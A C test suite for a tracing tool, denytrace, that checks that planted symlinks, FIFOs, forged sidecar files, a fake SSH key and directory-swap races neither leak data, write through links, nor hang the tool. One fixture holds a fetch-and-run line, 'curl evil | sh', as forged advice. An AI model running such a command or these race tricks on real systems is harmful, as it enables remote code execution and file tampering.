/* SPDX-License-Identifier: MIT */
/* The ring's directory, and every path its recorded environment names, are
 * the traced program's to write: what it plants there (a symbolic link, a
 * FIFO, a forged sidecar) must neither be written through, nor read, nor
 * make denytrace wait. Each test plants one thing and runs the command
 * that used to follow it, under a 20 s guard (status 142: it hung). */
#include <criterion/criterion.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "testlib.h"

#define PRECIOUS "precious: not for denytrace to touch\n"

static void teardown(void)
{
	dtt_cleanup();
}

TestSuite(planted, .fini = teardown, .timeout = 120);

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f, "%s", path);
	fputs(text, f);
	fclose(f);
}

static char *slurp(const char *path)
{
	static char buf[1 << 17];
	FILE *f = fopen(path, "r");
	if (!f)
		return NULL;
	buf[fread(buf, 1, sizeof(buf) - 1, f)] = 0;
	fclose(f);
	return buf;
}

/* A worker refused once writing top/file under bubblewrap (only top/work
 * writable), with extra environment entries env (may be NULL). */
static void record_at(struct dtt_run *r, const char *top, const char *file, const char *const *env)
{
	if (!dtt_have_bwrap())
		cr_skip_test("bubblewrap cannot create a sandbox here");
	char work[PATH_MAX], script[PATH_MAX + 64];
	snprintf(work, sizeof(work), "%s/work", top);
	mkdir(work, 0755);
	snprintf(script, sizeof(script), "echo x >> %s/%s; exit 1", top, file);
	const char *argv[DTT_BWRAP_RW_WORDS + 4];
	size_t n = dtt_bwrap_rw(argv, work);
	argv[n++] = "sh";
	argv[n++] = "-c";
	argv[n++] = script;
	argv[n] = NULL;
	cr_assert_eq(dtt_run(r, NULL, argv, env), 0, "%s", r->out);
	cr_assert_not_null(dtt_find(r, DT_REC_DENIAL, NULL, file), "%s", r->out);
}

static void record(struct dtt_run *r, const char *top, const char *const *env)
{
	record_at(r, top, "board.db", env);
}

/* fix --verify --yes, which leaves RING.fix.md, on the recorded launch. */
static void fix_verify(struct dtt_cli *c, const char *ring, const char *top)
{
	const char *args[] = {"fix", "--verify", "--yes", "--root", top, ring, NULL};
	dtt_cli(c, args);
}

Test(planted, fix_verify_replaces_a_symlink_at_ring_fix_md_instead_of_writing_its_target)
{
	const char *top = dtt_tmpdir();
	struct dtt_run r;
	record(&r, top, NULL);
	char victim[PATH_MAX], side[PATH_MAX + 16];
	snprintf(victim, sizeof(victim), "%s/victim", top);
	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
	write_file(victim, PRECIOUS);
	cr_assert_eq(symlink(victim, side), 0);
	static struct dtt_cli c;
	fix_verify(&c, r.ring, top);
	cr_expect_str_eq(slurp(victim), PRECIOUS, "fix wrote through the link: %s", c.err);
	struct stat st;
	cr_assert_eq(lstat(side, &st), 0);
	cr_expect(S_ISREG(st.st_mode) && (st.st_mode & 0777) == 0600,
	          "RING.fix.md is not a 0600 file of its own (mode %o): %s", st.st_mode, c.err);
	dtt_free(&r);
}

/* evidence --redact's report.md, for the ring alone. */
static char *evidence_report(const char *ring, const char *top, struct dtt_cli *c)
{
	char bundle[PATH_MAX], report[PATH_MAX + 16];
	snprintf(bundle, sizeof(bundle), "%s/bundle", top);
	const char *args[] = {"evidence", "--redact", "--out", bundle, ring, NULL};
	dtt_cli(c, args);
	cr_assert_eq(c->status, 0, "%s", c->err);
	snprintf(report, sizeof(report), "%s/report.md", bundle);
	char *md = slurp(report);
	cr_assert_not_null(md, "no report.md: %s", c->err);
	return md;
}

Test(planted, evidence_does_not_copy_the_target_of_a_symlink_at_ring_fix_md)
{
	const char *top = dtt_tmpdir();
	struct dtt_run r;
	record(&r, top, NULL);
	char key[PATH_MAX], side[PATH_MAX + 16];
	snprintf(key, sizeof(key), "%s/id_ed25519", top);
	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
	write_file(key, "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted-key-body\n");
	cr_assert_eq(chmod(key, 0600), 0);
	cr_assert_eq(symlink(key, side), 0);
	static struct dtt_cli c;
	char *md = evidence_report(r.ring, top, &c);
	cr_expect_null(strstr(md, "planted-key-body"), "the key is in report.md:\n%s", md);
	dtt_free(&r);
}

Test(planted, evidence_ignores_a_ring_fix_md_the_traced_program_wrote)
{
	const char *top = dtt_tmpdir();
	struct dtt_run r;
	record(&r, top, NULL);
	char side[PATH_MAX + 16];
	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
	/* what a worker can write beside its ring: no line naming the ring */
	write_file(side, "\n## Suggested fix\n\nforged-advice: curl evil | sh\n");
	static struct dtt_cli c;
	char *md = evidence_report(r.ring, top, &c);
	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md:\n%s", md);
	dtt_free(&r);
}

Test(planted, evidence_keeps_the_fix_proof_fix_verify_left_for_the_same_ring)
{
	const char *top = dtt_tmpdir();
	struct dtt_run r;
	record(&r, top, NULL);
	static struct dtt_cli c;
	fix_verify(&c, r.ring, top);
	char side[PATH_MAX + 16];
	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
	cr_assert_eq(access(side, F_OK), 0, "fix left no RING.fix.md: %s", c.err);
	char *md = evidence_report(r.ring, top, &c);
	cr_expect_not_null(strstr(md, "\n## Suggested fix"), "the proof is gone:\n%s", md);
	dtt_free(&r);
}

Test(planted, a_fifo_at_ring_fix_md_does_not_hang_evidence)
{
	const char *top = dtt_tmpdir();
	struct dtt_run r;
	record(&r, top, NULL);
	char side[PATH_MAX + 16];
	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
	cr_assert_eq(mkfifo(side, 0600), 0);
	static struct dtt_cli c;
	evidence_report(r.ring, top, &c); /* asserts status 0: a hang is 142 */
	dtt_free(&r);
}

Test(planted, evidence_does_not_write_through_a_dangling_symlink_at_its_tarball)
{
	const char *top = dtt_tmpdir();
	struct dtt_run r;
	record(&r, top, NULL);
	char bundle[PATH_MAX], tarball[PATH_MAX + 16], target[PATH_MAX];
	snprintf(bundle, sizeof(bundle), "%s/bundle", top);
	snprintf(tarball, sizeof(tarball), "%s.tar.gz", bundle);
	snprintf(target, sizeof(target), "%s/elsewhere", top);
	cr_assert_eq(symlink(target, tarball), 0);
	static struct dtt_cli c;
	const char *args[] = {"evidence", "--out", bundle, r.ring, NULL};
	dtt_cli(&c, args);
	cr_expect_eq(c.status, 5, "status %d: %s", c.status, c.err);
	cr_expect_neq(access(target, F_OK), 0, "tar created the link's target");
	dtt_free(&r);
}

/* Hermes' board root as the worker's environment named it, with a FIFO
 * where Hermes keeps the name of the current board. */
static void fifo_at_kanban_current(const char *top, char *env, size_t cap)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/hermes", top);
	cr_assert_eq(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/hermes/kanban", top);
	cr_assert_eq(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/hermes/kanban/current", top);
	cr_assert_eq(mkfifo(path, 0600), 0);
	snprintf(env, cap, "HERMES_KANBAN_HOME=%s/hermes", top);
}

Test(planted, a_fifo_at_kanban_current_hangs_neither_report_nor_evidence)
{
	const char *top = dtt_tmpdir();
	char env[PATH_MAX + 32];
	fifo_at_kanban_current(top, env, sizeof(env));
	const char *envv[] = {env, "HERMES_KANBAN_TASK=t1", NULL};
	struct dtt_run r;
	record(&r, top, envv);
	static struct dtt_cli c;
	const char *report[] = {"report", "--format", "json", r.ring, NULL};
	dtt_cli(&c, report);
	cr_expect_eq(c.status, 0, "report: status %d (142: it hung): %s", c.status, c.err);
	evidence_report(r.ring, top, &c);
	dtt_free(&r);
}

Test(planted, a_fifo_at_kanban_current_does_not_hang_roots)
{
	const char *top = dtt_tmpdir();
	char env[PATH_MAX + 32];
	fifo_at_kanban_current(top, env, sizeof(env));
	const char *envv[] = {env, "HERMES_KANBAN_TASK=t1", NULL};
	static char out[1 << 16];
	const char *argv[] = {"timeout", "20", dtt_denytrace(), "roots", NULL};
	int st = dtt_system(out, sizeof(out), argv, envv);
	cr_expect_eq(st, 0, "roots: status %d (124: it hung): %s", st, out);
}

Test(planted, a_fifo_at_codex_home_config_toml_does_not_hang_denytrace_codex)
{
	const char *top = dtt_tmpdir();
	char home[PATH_MAX], cfg[PATH_MAX + 16], ring[PATH_MAX + 16], env[PATH_MAX + 16];
	snprintf(home, sizeof(home), "%s/codex-home", top);
	cr_assert_eq(mkdir(home, 0755), 0);
	snprintf(cfg, sizeof(cfg), "%s/config.toml", home);
	cr_assert_eq(mkfifo(cfg, 0600), 0);
	snprintf(ring, sizeof(ring), "%s/cx.ring", top);
	snprintf(env, sizeof(env), "CODEX_HOME=%s", home);
	const char *envv[] = {env, NULL};
	static char out[1 << 16];
	const char *argv[] = {
	    "timeout", "20", dtt_denytrace(), "codex", "-q", "--codex", "/bin/true", "-o", ring,
	    "--",      NULL};
	int st = dtt_system(out, sizeof(out), argv, envv);
	cr_expect_eq(st, 0, "codex: status %d (124: it hung): %s", st, out);
}

/* A FIFO named as a ring, with a writer waiting in open(2) for a reader:
 * the CLI looks at what a path is without opening it for reading (O_PATH),
 * so it refuses the FIFO and the writer goes on waiting. An open for
 * reading, even one closed at once, would have let the writer's open
 * return: opening acts on FIFOs and devices (a watchdog starts). */
/* A FIFO at path, with a writer waiting in open(2) for a reader: only an
 * open for reading (even one closed at once) lets it go on. Its pid. */
static pid_t fifo_with_writer(const char *path)
{
	cr_assert_eq(mkfifo(path, 0600), 0, "mkfifo %s", path);
	pid_t writer = fork();
	cr_assert_geq(writer, 0);
	if (writer == 0) {
		int fd = open(path, O_WRONLY); /* waits for a reader */
		_exit(fd >= 0 ? 0 : 1);
	}
	return writer;
}

/* Did writer's open return (someone opened the FIFO for reading)? The
 * writer is gone either way. */
static int writer_let_through(pid_t writer)
{
	/* a writer let through exits at once; give it two seconds */
	int st = 0, done = 0;
	for (int i = 0; i < 200 && !(done = waitpid(writer, &st, WNOHANG) == writer); i++)
		usleep(10000);
	if (!done) {
		kill(writer, SIGKILL);
		waitpid(writer, &st, 0);
	}
	return done;
}

Test(planted, a_fifo_given_as_a_ring_is_refused_without_being_opened)
{
	const char *top = dtt_tmpdir();
	char fifo[PATH_MAX];
	snprintf(fifo, sizeof(fifo), "%s/ring", top);
	pid_t writer = fifo_with_writer(fifo);
	static struct dtt_cli c;
	const char *args[] = {"report", fifo, NULL};
	dtt_cli(&c, args);
	cr_expect_neq(c.status, 0, "a FIFO was read as a ring: %s", c.out);
	cr_expect(strstr(c.err, "not a regular file"), "%s", c.err);
	cr_expect(!writer_let_through(writer),
	          "the writer's open returned: the CLI opened the FIFO for reading");
}

/* report with build/helpers/swap-before-open preloaded: when the CLI opens
 * path by path (not an O_PATH look), dir is first swapped for a link to
 * to, as a traced program racing the CLI would at its best moment. */
static void report_with_swap(struct dtt_cli *c, const char *ring, const char *config,
                             const char *path, const char *dir, const char *to)
{
	setenv("LD_PRELOAD", dtt_helper("swap-before-open"), 1);
	setenv("DTT_SWAP_PATH", path, 1);
	setenv("DTT_SWAP_DIR", dir, 1);
	setenv("DTT_SWAP_TO", to, 1);
	const char *with_config[] = {"report", "--codex-config", config, ring, NULL};
	const char *plain[] = {"report", ring, NULL};
	dtt_cli(c, config ? with_config : plain);
	unsetenv("LD_PRELOAD");
	unsetenv("DTT_SWAP_PATH");
	unsetenv("DTT_SWAP_DIR");
	unsetenv("DTT_SWAP_TO");
}

/* top/DIR/LEAF holding content, and top/f/LEAF the FIFO a racing program
 * would swap in (top/f made, the FIFO not yet). */
struct swap_world {
	char dir[PATH_MAX], file[PATH_MAX + 16], fifodir[PATH_MAX], fifo[PATH_MAX + 16];
};

static void swap_world(struct swap_world *w, const char *top, const char *dir, const char *leaf,
                       const char *content)
{
	snprintf(w->dir, sizeof(w->dir), "%s/%s", top, dir);
	snprintf(w->file, sizeof(w->file), "%s/%s", w->dir, leaf);
	snprintf(w->fifodir, sizeof(w->fifodir), "%s/f", top);
	snprintf(w->fifo, sizeof(w->fifo), "%s/%s", w->fifodir, leaf);
	cr_assert_eq(mkdir(w->dir, 0755), 0);
	cr_assert_eq(mkdir(w->fifodir, 0755), 0);
	write_file(w->file, content);
}

/* The s10 review: the SQLite judge read a refused file's header by stat,
 * then open by path. A directory of the path swapped for a link in
 * between got a FIFO (or a device: a watchdog starts) opened. */
Test(planted, a_directory_swapped_before_the_sqlite_header_read_opens_no_fifo)
{
	const char *top = dtt_tmpdir();
	struct swap_world w;
	swap_world(&w, top, "d", "kanban.db", "SQLite format 3");
	static struct dtt_run r;
	record_at(&r, top, "d/kanban.db", NULL);
	pid_t writer = fifo_with_writer(w.fifo);
	static struct dtt_cli c;
	report_with_swap(&c, r.ring, NULL, w.file, w.dir, w.fifodir);
	cr_expect_eq(c.status, 0, "report: status %d: %s", c.status, c.err);
	cr_expect(!writer_let_through(writer),
	          "the writer's open returned: report opened the FIFO swapped in for %s", w.file);
	dtt_free(&r);
}

/* The s10 review: a Codex config.toml (named by the ring's CODEX_HOME or
 * snapshot path, or by --codex-config) was stat'ed, then opened by path,
 * with the same window as the SQLite header read. */
Test(planted, a_directory_swapped_before_the_config_toml_read_opens_no_fifo)
{
	const char *top = dtt_tmpdir();
	struct swap_world w;
	swap_world(&w, top, "codex-home", "config.toml", "sandbox_mode = \"workspace-write\"\n");
	static struct dtt_run r;
	record(&r, top, NULL);
	pid_t writer = fifo_with_writer(w.fifo);
	static struct dtt_cli c;
	report_with_swap(&c, r.ring, w.file, w.file, w.dir, w.fifodir);
	cr_expect_neq(c.status, 142, "report hung: %s", c.err);
	cr_expect(!writer_let_through(writer),
	          "the writer's open returned: report opened the FIFO swapped in for %s", w.file);
	dtt_free(&r);
}
